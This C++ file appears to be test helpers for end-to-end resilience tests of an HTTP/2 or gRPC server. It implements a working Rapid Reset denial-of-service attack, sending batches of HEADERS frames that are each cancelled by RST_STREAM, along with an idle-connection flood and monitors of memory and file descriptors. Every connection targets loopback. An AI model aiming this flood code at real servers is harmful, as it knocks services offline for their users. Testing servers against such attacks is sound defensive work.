#include "tests/e2e/attacks.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <fstream>
#include <thread>

#include "absl/strings/numbers.h"
#include "absl/strings/str_split.h"
#include "absl/time/clock.h"

namespace tltest {

namespace {

int Connect(int port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  timeval tv{2, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));  // bounds connect()
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

// One HTTP/2 frame: 9-byte header, then the payload.
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  std::string f;
  const uint32_t len = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>(len >> 16));
  f.push_back(static_cast<char>(len >> 8));
  f.push_back(static_cast<char>(len));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  f.push_back(static_cast<char>((stream >> 24) & 0x7f));
  f.push_back(static_cast<char>(stream >> 16));
  f.push_back(static_cast<char>(stream >> 8));
  f.push_back(static_cast<char>(stream));
  return f + payload;
}

// HPACK "literal header field without indexing, new name", no Huffman
// coding; names and values here are shorter than 127 bytes.
void Literal(std::string* block, const std::string& name, const std::string& value) {
  block->push_back(0);
  block->push_back(static_cast<char>(name.size()));
  *block += name;
  block->push_back(static_cast<char>(value.size()));
  *block += value;
}

bool SendAll(int fd, const std::string& data) {
  size_t sent = 0;
  while (sent < data.size()) {
    ssize_t n = send(fd, data.data() + sent, data.size() - sent, MSG_NOSIGNAL);
    if (n <= 0) return false;
    sent += static_cast<size_t>(n);
  }
  return true;
}

}  // namespace

IdleConnections::IdleConnections(int port, int count) {
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  for (int i = 0; i < count; ++i) {
    // Non-blocking: a full accept queue makes the kernel retry the SYN,
    // which the flood does not wait for.
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd < 0) break;
    if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 && errno != EINPROGRESS) {
      close(fd);
      break;
    }
    fds_.push_back(fd);
  }
}

IdleConnections::~IdleConnections() { Close(); }

void IdleConnections::Close() {
  for (int fd : fds_) close(fd);
  fds_.clear();
}

namespace {

// One connection of RapidReset; the streams it sent.
int64_t RapidResetOnce(int port, const std::string& path, int64_t streams, absl::Time end) {
  int fd = Connect(port);
  if (fd < 0) return 0;
  int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  // Whatever the server sends is read and dropped, so that its writes never
  // stall the connection: the attack is on the server's per-stream work.
  std::atomic<bool> closed{false};
  std::thread reader([fd, &closed] {
    char buf[65536];
    for (;;) {
      ssize_t n = recv(fd, buf, sizeof(buf), 0);
      if (n <= 0) break;
    }
    closed = true;
  });
  std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(4, 0, 0, "");
  hello += Frame(4, 1, 0, "");  // ack the server's SETTINGS (gRPC tolerates an early ack)
  int64_t sent = 0;
  if (SendAll(fd, hello)) {
    std::string headers;
    Literal(&headers, ":method", "POST");
    Literal(&headers, ":scheme", "http");
    Literal(&headers, ":path", path);
    Literal(&headers, ":authority", "127.0.0.1");
    Literal(&headers, "content-type", "application/grpc");
    Literal(&headers, "te", "trailers");
    const std::string cancel("\0\0\0\x08", 4);  // RST_STREAM error code CANCEL
    uint32_t id = 1;
    std::string batch;
    while (sent < streams && !closed && absl::Now() < end && id < 0x7fff0000u) {
      batch.clear();
      for (int i = 0; i < 64 && sent < streams; ++i, ++sent, id += 2) {
        batch += Frame(1, 0x4, id, headers);  // HEADERS, END_HEADERS
        batch += Frame(3, 0, id, cancel);
      }
      if (!SendAll(fd, batch)) break;
    }
  }
  shutdown(fd, SHUT_RDWR);
  reader.join();
  close(fd);
  return sent;
}

}  // namespace

RapidResetResult RapidReset(int port, const std::string& path, int64_t streams, double seconds) {
  RapidResetResult r;
  const absl::Time end = absl::Now() + absl::Seconds(seconds);
  while (r.streams < streams && absl::Now() < end) {
    r.streams += RapidResetOnce(port, path, streams - r.streams, end);
    ++r.connections;
  }
  return r;
}

int64_t ResidentBytes(pid_t pid) {
  std::ifstream status("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.rfind("VmRSS:", 0) == 0) {
      std::vector<std::string> parts = absl::StrSplit(line, ' ', absl::SkipEmpty());
      int64_t kib = 0;
      if (parts.size() >= 2 && absl::SimpleAtoi(parts[1], &kib)) return kib * 1024;
    }
  }
  return 0;
}

PeakResident::PeakResident(pid_t pid) : pid_(pid), peak_(ResidentBytes(pid)) {
  thread_ = std::thread([this] {
    while (sampling_) {
      peak_ = std::max<int64_t>(peak_, ResidentBytes(pid_));
      absl::SleepFor(absl::Milliseconds(20));
    }
  });
}

PeakResident::~PeakResident() { Stop(); }

int64_t PeakResident::Stop() {
  sampling_ = false;
  if (thread_.joinable()) thread_.join();
  return peak_;
}

int OpenDescriptors(pid_t pid) {
  DIR* dir = opendir(("/proc/" + std::to_string(pid) + "/fd").c_str());
  if (dir == nullptr) return 0;
  int n = 0;
  while (dirent* e = readdir(dir)) {
    if (e->d_name[0] != '.') ++n;
  }
  closedir(dir);
  return n;
}

}  // namespace tltest
